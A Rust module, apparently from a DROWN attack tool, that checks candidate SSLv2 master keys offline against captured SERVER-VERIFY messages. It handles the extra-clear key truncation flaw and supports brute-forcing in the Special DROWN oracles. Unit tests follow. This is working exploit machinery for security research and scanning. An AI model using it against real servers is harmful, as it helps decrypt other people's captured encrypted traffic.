// ServerVerifyChecker - Local SERVER-VERIFY validation
//
// SSLv2 SERVER-VERIFY carries the client challenge encrypted under the
// server write key (the client read key). Re-deriving that key from a
// candidate master key and decrypting locally tells whether the candidate is
// the key the server actually used. Both Special DROWN oracles rely on this:
// it is cheap and never touches the network.

use crate::constants::{SSL2_MAC_LENGTH, SSL2_MESSAGE_TYPE_LENGTH, SSL2_MT_SERVER_VERIFY};
use crate::ssl2::{Ssl2Cipher, Ssl2CipherSuite};
use cbc::cipher::block_padding::NoPadding;
use cbc::cipher::{BlockCipher, BlockDecryptMut, KeyIvInit};
use rc4::consts::U16;
use rc4::{KeyInit, Rc4, StreamCipher};
use serde::{Deserialize, Serialize};
use tracing::warn;

/// Everything needed to validate a SERVER-VERIFY offline.
///
/// Captured once from a live handshake. The leaky export flow persists it to
/// disk and analyzes it later, possibly on another host.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SessionCapture {
    pub cipher_suite: Ssl2CipherSuite,
    #[serde(with = "hex::serde")]
    pub clear_key: Vec<u8>,
    /// SECRET-KEY-DATA the client encrypted (empty when unknown)
    #[serde(with = "hex::serde")]
    pub secret_key_plain: Vec<u8>,
    #[serde(with = "hex::serde")]
    pub secret_key_enc: Vec<u8>,
    /// CHALLENGE-DATA from CLIENT-HELLO
    #[serde(with = "hex::serde")]
    pub client_random: Vec<u8>,
    /// CONNECTION-ID from SERVER-HELLO
    #[serde(with = "hex::serde")]
    pub server_random: Vec<u8>,
    #[serde(with = "hex::serde")]
    pub iv: Vec<u8>,
    /// Encrypted SERVER-VERIFY record body (MAC, message type, challenge, padding)
    #[serde(with = "hex::serde")]
    pub encrypted_payload: Vec<u8>,
    pub padding_length: u8,
}

/// Stateless SERVER-VERIFY validator
pub struct ServerVerifyChecker;

impl ServerVerifyChecker {
    /// Check whether the SERVER-VERIFY in `capture` decrypts to the client
    /// challenge under the master key built from the captured clear key and
    /// `secret_key`.
    ///
    /// `silent` suppresses the wrong-message-type warning, which is the
    /// normal outcome while brute-forcing.
    pub fn check(capture: &SessionCapture, secret_key: &[u8], silent: bool) -> bool {
        let master_key =
            Self::master_key(capture.cipher_suite, &capture.clear_key, secret_key);
        let decrypted = Self::decrypt(capture, &master_key);
        Self::compare_decrypted(&decrypted, &capture.client_random, silent)
    }

    /// Compare a decrypted SERVER-VERIFY body against the expected challenge.
    ///
    /// Returns `false` for buffers too short to hold MAC and message type.
    pub fn compare_decrypted(decrypted: &[u8], client_random: &[u8], silent: bool) -> bool {
        if decrypted.len() <= SSL2_MAC_LENGTH + SSL2_MESSAGE_TYPE_LENGTH {
            warn!("Decrypted Server-Verify message is too short");
            return false;
        }

        let type_offset = SSL2_MAC_LENGTH;
        if decrypted[type_offset] != SSL2_MT_SERVER_VERIFY {
            if !silent {
                warn!("Wrong message type in decrypted Server-Verify message");
            }
            return false;
        }

        let challenge_offset = type_offset + SSL2_MESSAGE_TYPE_LENGTH;
        decrypted[challenge_offset..] == *client_random
    }

    /// Master key as an extra-clear affected server assembles it.
    ///
    /// A clear key longer than the cipher's nominal clear-key length pushes
    /// the end of the secret key out of the master key buffer.
    pub fn master_key(suite: Ssl2CipherSuite, clear_key: &[u8], secret_key: &[u8]) -> Vec<u8> {
        let nominal_clear = suite.clear_key_len();
        let secret = if clear_key.len() > nominal_clear {
            let overflow = clear_key.len() - nominal_clear;
            let remaining = secret_key.len().saturating_sub(overflow);
            &secret_key[..remaining]
        } else {
            secret_key
        };

        let mut master_key = Vec::with_capacity(clear_key.len() + secret.len());
        master_key.extend_from_slice(clear_key);
        master_key.extend_from_slice(secret);
        master_key
    }

    /// KEY-MATERIAL-`index` = MD5(master key || index || challenge || connection id)
    pub fn make_key_material(
        master_key: &[u8],
        client_random: &[u8],
        server_random: &[u8],
        index: &str,
    ) -> [u8; 16] {
        let mut context = md5::Context::new();
        context.consume(master_key);
        context.consume(index.as_bytes());
        context.consume(client_random);
        context.consume(server_random);
        context.compute().0
    }

    /// Decrypt the captured SERVER-VERIFY body under `master_key`.
    ///
    /// Returns an empty buffer when the payload cannot be decrypted.
    pub fn decrypt(capture: &SessionCapture, master_key: &[u8]) -> Vec<u8> {
        let key_material_0 = Self::make_key_material(
            master_key,
            &capture.client_random,
            &capture.server_random,
            "0",
        );
        let encrypted = &capture.encrypted_payload;
        let padding = capture.padding_length as usize;

        match capture.cipher_suite.cipher() {
            Ssl2Cipher::Rc4 => decrypt_rc4(&key_material_0, encrypted),
            Ssl2Cipher::Rc2Cbc => {
                decrypt_cbc::<rc2::Rc2>(&key_material_0, &capture.iv, encrypted, padding)
            }
            Ssl2Cipher::DesCbc => {
                // The draft says no index here, servers use "0"
                let mut key = [0u8; 8];
                key.copy_from_slice(&key_material_0[..8]);
                set_odd_parity(&mut key);
                decrypt_cbc::<des::Des>(&key, &capture.iv, encrypted, padding)
            }
            Ssl2Cipher::TripleDesCbc => {
                let key_material_1 = Self::make_key_material(
                    master_key,
                    &capture.client_random,
                    &capture.server_random,
                    "1",
                );
                let mut key = [0u8; 24];
                key[..16].copy_from_slice(&key_material_0);
                key[16..].copy_from_slice(&key_material_1[..8]);
                decrypt_cbc::<des::TdesEde3>(&key, &capture.iv, encrypted, padding)
            }
        }
    }
}

fn decrypt_rc4(key: &[u8; 16], encrypted: &[u8]) -> Vec<u8> {
    let mut buf = encrypted.to_vec();
    let mut rc4 = Rc4::<U16>::new(key.into());
    rc4.apply_keystream(&mut buf);
    buf
}

fn decrypt_cbc<C>(key: &[u8], iv: &[u8], encrypted: &[u8], padding_length: usize) -> Vec<u8>
where
    C: BlockDecryptMut + BlockCipher + KeyInit,
{
    let block_size = C::block_size();
    if encrypted.is_empty() || encrypted.len() % block_size != 0 {
        warn!("Server-Verify payload has invalid length");
        return Vec::new();
    }

    let decryptor = match cbc::Decryptor::<C>::new_from_slices(key, iv) {
        Ok(decryptor) => decryptor,
        Err(_) => {
            warn!("Invalid key or IV length for Server-Verify decryption");
            return Vec::new();
        }
    };

    let mut buf = encrypted.to_vec();
    let plain_len = match decryptor.decrypt_padded_mut::<NoPadding>(&mut buf) {
        Ok(plain) => plain.len(),
        Err(_) => return Vec::new(),
    };
    buf.truncate(plain_len.saturating_sub(padding_length));
    buf
}

/// Adjust each DES key byte to odd parity
fn set_odd_parity(key: &mut [u8]) {
    for byte in key.iter_mut() {
        let high = *byte & 0xFE;
        *byte = if high.count_ones() % 2 == 0 { high | 1 } else { high };
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use cbc::cipher::{BlockEncryptMut, block_padding::NoPadding};

    /// Encrypt a SERVER-VERIFY body the way a server would
    pub(crate) fn encrypt_server_verify(
        suite: Ssl2CipherSuite,
        master_key: &[u8],
        challenge: &[u8],
        connection_id: &[u8],
        iv: &[u8],
    ) -> (Vec<u8>, u8) {
        let mut body = vec![0xAAu8; SSL2_MAC_LENGTH];
        body.push(SSL2_MT_SERVER_VERIFY);
        body.extend_from_slice(challenge);

        let km0 = ServerVerifyChecker::make_key_material(master_key, challenge, connection_id, "0");
        let padding = match suite.block_size() {
            Some(bs) => (bs - body.len() % bs) % bs,
            None => 0,
        };
        body.extend(std::iter::repeat(0u8).take(padding));
        let len = body.len();

        match suite.cipher() {
            Ssl2Cipher::Rc4 => {
                let mut rc4 = Rc4::<U16>::new((&km0).into());
                rc4.apply_keystream(&mut body);
            }
            Ssl2Cipher::Rc2Cbc => {
                cbc::Encryptor::<rc2::Rc2>::new_from_slices(&km0, iv)
                    .unwrap()
                    .encrypt_padded_mut::<NoPadding>(&mut body, len)
                    .unwrap();
            }
            Ssl2Cipher::DesCbc => {
                let mut key = [0u8; 8];
                key.copy_from_slice(&km0[..8]);
                set_odd_parity(&mut key);
                cbc::Encryptor::<des::Des>::new_from_slices(&key, iv)
                    .unwrap()
                    .encrypt_padded_mut::<NoPadding>(&mut body, len)
                    .unwrap();
            }
            Ssl2Cipher::TripleDesCbc => {
                let km1 =
                    ServerVerifyChecker::make_key_material(master_key, challenge, connection_id, "1");
                let mut key = [0u8; 24];
                key[..16].copy_from_slice(&km0);
                key[16..].copy_from_slice(&km1[..8]);
                cbc::Encryptor::<des::TdesEde3>::new_from_slices(&key, iv)
                    .unwrap()
                    .encrypt_padded_mut::<NoPadding>(&mut body, len)
                    .unwrap();
            }
        }
        (body, padding as u8)
    }

    pub(crate) fn capture_for(
        suite: Ssl2CipherSuite,
        clear_key: &[u8],
        secret_key: &[u8],
    ) -> SessionCapture {
        let challenge: Vec<u8> = (0..16u8).map(|i| i.wrapping_mul(13)).collect();
        let connection_id: Vec<u8> = (0..16u8).map(|i| 0x40 | i).collect();
        let iv = if suite.is_block_cipher() {
            vec![0x11u8; 8]
        } else {
            Vec::new()
        };
        let master_key = ServerVerifyChecker::master_key(suite, clear_key, secret_key);
        let (encrypted_payload, padding_length) =
            encrypt_server_verify(suite, &master_key, &challenge, &connection_id, &iv);

        SessionCapture {
            cipher_suite: suite,
            clear_key: clear_key.to_vec(),
            secret_key_plain: secret_key.to_vec(),
            secret_key_enc: vec![0x5Au8; 16],
            client_random: challenge,
            server_random: connection_id,
            iv,
            encrypted_payload,
            padding_length,
        }
    }

    #[test]
    fn test_compare_decrypted_short_buffer() {
        assert!(!ServerVerifyChecker::compare_decrypted(&[1, 2, 3], &[0u8; 16], false));
        assert!(!ServerVerifyChecker::compare_decrypted(&[0u8; 17], &[], true));
    }

    #[test]
    fn test_compare_decrypted_checks_type_and_challenge() {
        let challenge = [7u8; 16];
        let mut decrypted = vec![0u8; SSL2_MAC_LENGTH];
        decrypted.push(SSL2_MT_SERVER_VERIFY);
        decrypted.extend_from_slice(&challenge);
        assert!(ServerVerifyChecker::compare_decrypted(&decrypted, &challenge, false));

        decrypted[SSL2_MAC_LENGTH] = 0x04;
        assert!(!ServerVerifyChecker::compare_decrypted(&decrypted, &challenge, true));

        decrypted[SSL2_MAC_LENGTH] = SSL2_MT_SERVER_VERIFY;
        assert!(!ServerVerifyChecker::compare_decrypted(&decrypted, &[8u8; 16], true));
    }

    #[test]
    fn test_master_key_extra_clear_truncation() {
        let suite = Ssl2CipherSuite::Rc4128WithMd5;
        let secret: Vec<u8> = (1..=16).collect();

        assert_eq!(ServerVerifyChecker::master_key(suite, &[], &secret), secret);

        let master = ServerVerifyChecker::master_key(suite, &[0u8; 13], &secret);
        assert_eq!(master.len(), 16);
        assert_eq!(&master[13..], &[1, 2, 3]);

        let all_clear = ServerVerifyChecker::master_key(suite, &[0u8; 16], &secret);
        assert_eq!(all_clear, vec![0u8; 16]);
    }

    #[test]
    fn test_key_material_index_changes_output() {
        let km0 = ServerVerifyChecker::make_key_material(&[1u8; 16], &[2u8; 16], &[3u8; 16], "0");
        let km1 = ServerVerifyChecker::make_key_material(&[1u8; 16], &[2u8; 16], &[3u8; 16], "1");
        assert_ne!(km0, km1);
    }

    #[test]
    fn test_key_material_known_answer() {
        let master: Vec<u8> = (0x00..0x10).collect();
        let challenge: Vec<u8> = (0x10..0x20).collect();
        let connection_id: Vec<u8> = (0x20..0x30).collect();

        let km0 = ServerVerifyChecker::make_key_material(&master, &challenge, &connection_id, "0");
        assert_eq!(hex::encode(km0), "baf636b66aaac3a73ac57fc1489a2f1d");

        let km1 = ServerVerifyChecker::make_key_material(&master, &challenge, &connection_id, "1");
        assert_eq!(hex::encode(km1), "9157b392b47c6201bf02111d5aa5b1ae");
    }

    #[test]
    fn test_check_all_cipher_suites() {
        for suite in Ssl2CipherSuite::ALL {
            let clear = vec![0x33u8; suite.clear_key_len()];
            let secret: Vec<u8> = (0..suite.secret_key_len() as u8).collect();
            let capture = capture_for(suite, &clear, &secret);

            assert!(ServerVerifyChecker::check(&capture, &secret, false), "{}", suite);

            let mut wrong = secret.clone();
            wrong[0] ^= 0x01;
            assert!(!ServerVerifyChecker::check(&capture, &wrong, true), "{}", suite);
        }
    }

    #[test]
    fn test_cbc_payload_with_bad_length_is_rejected() {
        let suite = Ssl2CipherSuite::Des64CbcWithMd5;
        let secret = [9u8; 8];
        let mut capture = capture_for(suite, &[], &secret);
        capture.encrypted_payload.pop();

        assert!(ServerVerifyChecker::decrypt(&capture, &secret).is_empty());
        assert!(!ServerVerifyChecker::check(&capture, &secret, true));
    }

    #[test]
    fn test_odd_parity() {
        let mut key = [0x00u8, 0x01, 0xFE, 0xFF];
        set_odd_parity(&mut key);
        for byte in key {
            assert_eq!(byte.count_ones() % 2, 1);
        }
    }

    #[test]
    fn test_capture_json_round_trip() {
        let capture = capture_for(Ssl2CipherSuite::Rc2128CbcExport40WithMd5, &[1u8; 11], &[2u8; 5]);
        let json = serde_json::to_string(&capture).unwrap();
        assert!(json.contains("SSL_CK_RC2_128_CBC_EXPORT40_WITH_MD5"));
        let back: SessionCapture = serde_json::from_str(&json).unwrap();
        assert_eq!(back, capture);
    }
}
